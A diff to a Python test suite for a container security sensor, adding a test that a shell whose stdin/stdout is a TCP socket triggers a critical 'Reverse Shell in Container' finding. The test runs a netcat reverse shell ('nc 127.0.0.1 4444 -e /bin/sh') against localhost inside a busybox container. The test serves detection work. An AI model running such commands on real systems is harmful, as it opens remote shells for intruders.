@@ -18,7 +18,7 @@ from models.baseline import ModelConfig
 from models.engine import ModelEngine
 from rules.engine import RuleEngine
 from sensor.bpf_loader import ProbeOptions
-from sensor.events import Event, Finding
+from sensor.events import STDIO_SOCKET, Event, Finding
 from sensor.tracer import Tracer
 from tests.kernel.helpers import collect_until, learn, sentinel
 
@@ -112,6 +112,21 @@ def test_bind_shell_served_by_nc(tracer: Tracer, busybox) -> None:  # type: igno
     rules = {f.rule for f in findings}
     assert "Shell Spawned by Non-Shell Program in Container" in rules, rules
     assert "Reverse Shell in Container" in rules, rules
+
+
+def test_reverse_shell_found_by_its_socket_stdio(tracer: Tracer, busybox) -> None:  # type: ignore[no-untyped-def]
+    """A shell whose stdin/stdout/stderr is a TCP socket (busybox nc dup2()s the connected socket
+    onto 0-2 and execs it, as python's socket + os.dup2 + `sh -i` does) is a reverse shell by what
+    it is: the finding is on the shell's own exec, whose command line says nothing, and names the
+    remote end. The attacker's side (`nc -l`) is fed by a sleep, so the shell lives while it is read."""
+    script = ("(sleep 20 | nc -l -p 4444 >/dev/null &) ; sleep 0.3; (nc 127.0.0.1 4444 -e /bin/sh &) ; sleep 1")
+    findings, cid = fired(tracer, busybox, script)
+    hits = [f for f in findings if f.rule == "Reverse Shell in Container" and f.event.exe == "/bin/sh"]
+    assert hits, sorted({(f.rule, f.event.exe) for f in findings})
+    ev = hits[0].event
+    assert ev.flags & STDIO_SOCKET and ev.args == ("/bin/sh",) and ev.container_id == cid
+    assert (ev.proto, ev.daddr, ev.dport, ev.saddr) == ("tcp", "127.0.0.1", 4444, "127.0.0.1") and ev.sport
+    assert hits[0].priority == "CRITICAL" and f"127.0.0.1:{ev.sport}->127.0.0.1:4444" in hits[0].output
 
 
 def test_model_learns_live_container_and_flags_new_binary(tracer: Tracer, busybox) -> None:  # type: ignore[no-untyped-def]
